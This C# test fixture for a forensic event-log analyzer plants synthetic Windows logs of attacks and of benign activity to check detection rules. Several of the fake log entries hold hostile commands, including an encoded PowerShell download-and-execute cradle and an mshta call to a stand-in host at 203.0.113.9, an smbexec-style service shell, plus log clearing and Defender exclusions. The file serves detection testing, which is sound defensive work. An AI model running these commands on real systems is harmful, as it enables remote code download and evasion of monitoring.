using Forensics.Analyzer.Risk;
using Forensics.Parsers.Tests.Formats.EventLog;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>What event logs tell of attackers, and what they tell of everybody else.</summary>
internal static class WindowsLogPlants
{
    private const string Id = "W-LOG";
    private const string Folder = "/Windows/System32/winevt/Logs/";
    private const string Auditing = "Microsoft-Windows-Security-Auditing";
    private const string LogService = "Microsoft-Windows-Eventlog";
    private const string Defender = "Microsoft-Windows-Windows Defender";
    private const string Sessions = "Microsoft-Windows-TerminalServices-LocalSessionManager";
    private const string Administrator = "S-1-5-21-1-2-3-500";
    private const string Account = "S-1-5-21-1-2-3-1009";
    private const string Excluded = @"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\";

    private static readonly DateTimeOffset s_time = DateTimeOffset.FromUnixTimeSeconds(PlantTree.Planted);

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new(Id, "loud-service-that-is-a-shell", PlantKind.Loud, tree => System(tree, Service("BTOBTO", @"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat"))) { Rule = "service-shell" },
            new(Id, "loud-script-block-that-downloads", PlantKind.Loud, tree => Script(tree, "powershell -nop -w hidden -enc " + WindowsTaskPlants.Encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"), level: 3)) { Rule = "script-block" },
            new(Id, "loud-long-script-block", PlantKind.Loud, tree => Write(tree, "Microsoft-Windows-PowerShell%4Operational", Parts("$x = 1\n" + new string(' ', 3000) + "\nIEX (New-Object Net.Web", "Client).DownloadString('http://203.0.113.9/a.ps1')"))) { Rule = "script-block" },
            new(Id, "loud-command-line", PlantKind.Loud, tree => Security(tree, Audit(4688, ("SubjectUserName", "alice"), ("NewProcessName", @"C:\Windows\System32\cmd.exe"), ("CommandLine", "cmd /c mshta http://203.0.113.9/x.hta"), ("ParentProcessName", @"C:\Program Files\Office\WINWORD.EXE"))))
                { Rule = "command", AtLeast = Severity.Medium },
            new(Id, "quiet-three-logs-cleared", PlantKind.Quiet, tree => System(Security(tree, Cleared(1102, null)), Cleared(104, "System"), Cleared(104, "Application"))) { Rule = "cleared" },
            new(Id, "quiet-security-log-cleared", PlantKind.Quiet, tree => tree.File("/Windows/System32/WinEvt/LOGS/SECURITY.EVTX", EvtxWriter.Write(Cleared(1102, null)))) { Rule = "cleared", AtLeast = Severity.Medium },
            new(Id, "quiet-cleared-as-the-system", PlantKind.Quiet, tree => Write(Security(tree, System(1102, null)), "Application", Installed(-3))) { Rule = "cleared", AtLeast = Severity.Medium },
            new(Id, "quiet-records-taken-out", PlantKind.Quiet, tree => Security(tree, Login(2, "alice", "127.0.0.1") with { RecordId = 100 }, Login(2, "alice", "127.0.0.1") with { RecordId = 120 })) { Rule = "records-missing", AtLeast = Severity.Low },
            new(Id, "quiet-remote-administration", PlantKind.Quiet, tree => System(tree, Service("PSEXESVC", @"%SystemRoot%\PSEXESVC.exe"))) { Rule = "service-remote-admin", AtLeast = Severity.Low },
            new(Id, "quiet-auditing-off", PlantKind.Quiet, tree => Security(tree, Audit(4719, ("SubjectUserSid", Administrator), ("SubjectUserName", "Administrator"), ("SubcategoryGuid", Guid.Parse("0cce9215-69ae-11d9-bed3-505054503030")), ("AuditPolicyChanges", "%%8448, %%8450"))))
                { Rule = "auditing-off", AtLeast = Severity.Medium },
            new(Id, "quiet-defender-off", PlantKind.Quiet, tree => Protection(tree, Guard(5001, ("Product Name", "Microsoft Defender Antivirus")))) { Rule = "defender-off", AtLeast = Severity.Medium },
            new(Id, "quiet-whole-disk-excluded", PlantKind.Quiet, tree => Protection(tree, Setting(@"Paths\C:\ = 0x0"))) { Rule = "defender-exclusion" },
            new(Id, "quiet-shared-folder-excluded", PlantKind.Quiet, tree => Protection(tree, Setting(@"Paths\C:\Users\Public = 0x0"))) { Rule = "defender-exclusion" },
            new(Id, "quiet-programs-excluded", PlantKind.Quiet, tree => Protection(tree, Setting("Extensions\\.exe = 0x0"))) { Rule = "defender-exclusion" },
            new(Id, "quiet-service-with-a-name-by-chance", PlantKind.Quiet, tree => System(tree, Service("hWkP", @"%systemroot%\kQzWvBtR.exe"))) { Rule = "service-odd-place" },
            new(Id, "quiet-service-on-a-share-of-its-own", PlantKind.Quiet, tree => System(tree, Service("f1a2b3c", @"\\WS01\ADMIN$\f1a2b3c.exe"))) { Rule = "service-shell" },
            new(Id, "quiet-service-in-a-shared-folder", PlantKind.Quiet, tree => Security(tree, Audit(4697, ("SubjectUserName", "alice"), ("ServiceName", "upd"), ("ServiceFileName", @"""C:\Users\Public\upd\upd.exe"" -s"), ("ServiceType", 0x10UL), ("ServiceStartType", 2u))))
                { Rule = "service-odd-place", AtLeast = Severity.Medium },
            new(Id, "quiet-hidden-administrator", PlantKind.Quiet, tree => Security(tree, Made("support$"), Member(Account, "Administrators", "S-1-5-32-544"))) { Rule = "new-administrator" },
            new(Id, "quiet-administrator-made-as-the-system", PlantKind.Quiet, tree => Write(Security(tree, BySystem("helpdesk"), Member(Account, "Administrators", "S-1-5-32-544")), "Application", Installed(-30))) { Rule = "new-administrator", AtLeast = Severity.Medium },
            new(Id, "quiet-administrator-by-a-guesser", PlantKind.Quiet, tree => Security(tree, [.. Guesses(30, "203.0.113.9"), Login(10, "Administrator", "203.0.113.9"), Made("helpdesk"), Member(Account, "Administrators", "S-1-5-32-544")])) { Rule = "new-administrator" },
            new(Id, "quiet-short-lived-administrator", PlantKind.Quiet, tree => Security(tree, Made("tmp1"), Member(Account, "Administrators", "S-1-5-32-544"), Audit(4726, ("TargetUserName", "tmp1"), ("TargetSid", Account), ("SubjectUserName", "Administrator"))))
                { Rule = "short-lived-account", AtLeast = Severity.Medium },
            new(Id, "quiet-guessed-password", PlantKind.Quiet, tree => Security(tree, [.. Guesses(40, "203.0.113.9"), Login(10, "Administrator", "203.0.113.9")])) { Rule = "guessed-password" },
            new(Id, "quiet-guessed-password-security-log-cleared-later", PlantKind.Quiet, tree => Write(Security(tree, [.. Guesses(40, "203.0.113.9")]), "Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational", Session(21, "203.0.113.9"))) { Rule = "guessed-password" },
            new(Id, "quiet-guessed-from-everywhere", PlantKind.Quiet, tree => Security(tree, [.. Enumerable.Range(1, 120).SelectMany(i => Guesses(1, "198.51.100." + i)), Login(10, "Administrator", "203.0.113.77")]))
                { Rule = "remote-desktop-from-internet", AtLeast = Severity.Medium },

            new(Id, "benign-cleared-when-the-image-was-made", PlantKind.Benign, tree => System(Security(tree, System(1102, null)), System(104, "System"), System(104, "Application"), System(104, "Setup"))),
            new(Id, "benign-full-log-cleared", PlantKind.Benign, tree => System(tree, Cleared(104, "Application"))),
            new(Id, "benign-defender-off-for-a-moment", PlantKind.Benign, tree => Protection(tree, Guard(5001, ("Product Name", "x")), Guard(5000, ("Product Name", "x")) with { Time = s_time.AddMinutes(2) })),
            new(Id, "benign-database-excluded", PlantKind.Benign, tree => Protection(tree, Setting(@"Paths\C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\DATA = 0x0"), Setting(@"Extensions\.mdf = 0x0"), Setting(@"Processes\C:\Program Files\Microsoft SQL Server\sqlservr.exe = 0x0"))),
            new(Id, "benign-services", PlantKind.Benign, tree => System(tree, Service("Google Update", @"""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe"" /svc"), Service("MpKsl1234", @"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{0A}\MpKslDrv.sys"),
                Service("PSEXESVC", @"%SystemRoot%\PSEXESVC.exe"), Service("Sysmon64", @"C:\Windows\Sysmon64.exe"), Service("vmci", @"\SystemRoot\System32\drivers\vmci.sys"), Service("cpuz149", @"\??\C:\Users\alice\AppData\Local\Temp\cpuz149\cpuz149_x64.sys"),
                Service("Print", @"%SystemRoot%\system32\svchost.exe -k print"))),
            new(Id, "benign-account-of-setup", PlantKind.Benign, tree => Security(tree, BySystem("User"), Member(Account, "Administrators", "S-1-5-32-544"))),
            new(Id, "benign-account-without-rights", PlantKind.Benign, tree => Security(tree, Made("bob"), Member(Account, "Remote Desktop Users", "S-1-5-32-555"))),
            new(Id, "benign-administrator-at-home", PlantKind.Benign, tree => Security(tree, [.. Guesses(5, "192.168.1.20"), Login(10, "Administrator", "192.168.1.20"), Login(3, "WS02$", "192.168.1.30"), .. Guesses(30, "192.168.1.40"), Login(3, "ANONYMOUS LOGON", "192.168.1.40", "S-1-5-7")])),
            new(Id, "benign-old-password-kept", PlantKind.Benign, tree => Security(tree, [.. Guesses(60, "192.168.1.20"), Login(3, "Administrator", "192.168.1.20"), .. Guesses(60, "127.0.0.1"), Login(2, "Administrator", "127.0.0.1")])),
            new(Id, "benign-sources-excluded", PlantKind.Benign, tree => Protection(tree, Setting(@"Paths\C:\Users\alice\source\repos = 0x0"), Setting(@"Processes\devenv.exe = 0x0"))),
            new(Id, "benign-remote-desktop-of-a-traveller", PlantKind.Benign, tree => Security(tree, Login(10, "alice", "203.0.113.50"))),
            new(Id, "benign-scripts", PlantKind.Benign, tree => Script(tree, "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))", level: 3)),
            new(Id, "benign-script-of-management", PlantKind.Benign, tree => Script(tree, "$r = Invoke-RestMethod https://api.example/v1/health; if ($r.ok) { Get-Service | Where-Object Status -eq Stopped | Start-Service }\nInvoke-WebRequest -Uri https://download.example/agent.msi -OutFile C:\\Temp\\agent.msi")),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    private static PlantTree Write(PlantTree tree, string name, params WrittenEvent[] events) => tree.File(Folder + name + ".evtx", EvtxWriter.Write(events));

    private static PlantTree Security(PlantTree tree, params WrittenEvent[] events) => Write(tree, "Security", events);

    private static PlantTree System(PlantTree tree, params WrittenEvent[] events) => Write(tree, "System", [.. events.Select(one => one with { Channel = "System" })]);

    private static PlantTree Protection(PlantTree tree, params WrittenEvent[] events) => Write(tree, "Microsoft-Windows-Windows Defender%4Operational", events);

    private static PlantTree Script(PlantTree tree, string text, int level = 5) => Write(tree, "Microsoft-Windows-PowerShell%4Operational", Block(1, 1, text) with { Level = level });

    private static WrittenEvent[] Parts(params string[] parts) => [.. parts.Select((part, i) => Block(i + 1, parts.Length, part))];

    private static WrittenEvent Block(int number, int total, string text) => new("Microsoft-Windows-PowerShell", 4104, s_time, ("MessageNumber", number), ("MessageTotal", total), ("ScriptBlockText", text), ("ScriptBlockId", "2f0c1a6e-0000-0000-0000-000000000001"), ("Path", ""))
    {
        Channel = "Microsoft-Windows-PowerShell/Operational", Level = 5, UserSid = Administrator, IsNested = true,
    };

    private static WrittenEvent Audit(int id, params (string Name, object? Value)[] data) => new(Auditing, id, s_time, data) { IsNested = true };

    private static WrittenEvent Guard(int id, params (string Name, object? Value)[] data) => new(Defender, id, s_time, data) { Channel = "Microsoft-Windows-Windows Defender/Operational", UserSid = "S-1-5-18" };

    private static WrittenEvent Setting(string value) => Guard(5007, ("Product Name", "Microsoft Defender Antivirus"), ("Old Value", ""), ("New Value", Excluded + value));

    private static WrittenEvent Service(string name, string path) => new("Service Control Manager", 7045, s_time, ("ServiceName", name), ("ImagePath", path), ("ServiceType", "user mode service"), ("StartType", "demand start"), ("AccountName", "LocalSystem")) { UserSid = Administrator };

    private static WrittenEvent Cleared(int id, string? log) => new(LogService, id, s_time, ("SubjectUserSid", Administrator), ("SubjectUserName", "Administrator"), ("SubjectDomainName", "WS01"), ("Channel", log), ("BackupPath", "")) { UserData = "LogFileCleared", IsNested = true };

    private static WrittenEvent System(int id, string? log) => Cleared(id, log) with { Data = Data(("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", "SYSTEM"), ("SubjectDomainName", "NT AUTHORITY"), ("Channel", log)) };

    private static WrittenEvent Made(string name) => Audit(4720, ("TargetUserName", name), ("TargetDomainName", "WS01"), ("TargetSid", Account), ("SubjectUserSid", Administrator), ("SubjectUserName", "Administrator"), ("SubjectDomainName", "WS01"));

    private static WrittenEvent BySystem(string name) => Audit(4720, ("TargetUserName", name), ("TargetSid", Account), ("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", "WIN-QALA5Q3KJ43$"));

    private static WrittenEvent Installed(int days) => new("MsiInstaller", 11707, s_time.AddDays(days), ("", "Product: 7-Zip -- Installation completed successfully.")) { Channel = "Application" };

    private static WrittenEvent Member(string member, string group, string sid) => Audit(4732, ("MemberName", "-"), ("MemberSid", member), ("TargetUserName", group), ("TargetSid", sid), ("SubjectUserName", "Administrator"), ("SubjectDomainName", "WS01"));

    private static IEnumerable<WrittenEvent> Guesses(int count, string address) => Enumerable.Range(0, count).Select(i => Audit(4625, ("TargetUserSid", "S-1-0-0"), ("TargetUserName", "Administrator"), ("TargetDomainName", ""), ("Status", 0xC000006DUL), ("SubStatus", 0xC000006AUL),
        ("LogonType", 3u), ("IpAddress", address), ("IpPort", "0")) with { Time = s_time.AddSeconds(i - 600) });

    private static WrittenEvent Login(uint type, string user, string address, string sid = Administrator) => Audit(4624, ("TargetUserSid", sid), ("TargetUserName", user), ("TargetDomainName", "WS01"), ("TargetLogonId", 0x1234UL), ("LogonType", type),
        ("AuthenticationPackageName", "Negotiate"), ("WorkstationName", "-"), ("ProcessName", "-"), ("IpAddress", address), ("IpPort", "0"));

    private static WrittenEvent Session(int id, string address) => new(Sessions, id, s_time, ("User", @"WS01\Administrator"), ("SessionID", 2u), ("Address", address)) { UserData = "EventXML", Channel = Sessions + "/Operational" };

    private static (string Name, object? Value)[] Data(params (string Name, object? Value)[] data) => data;
}
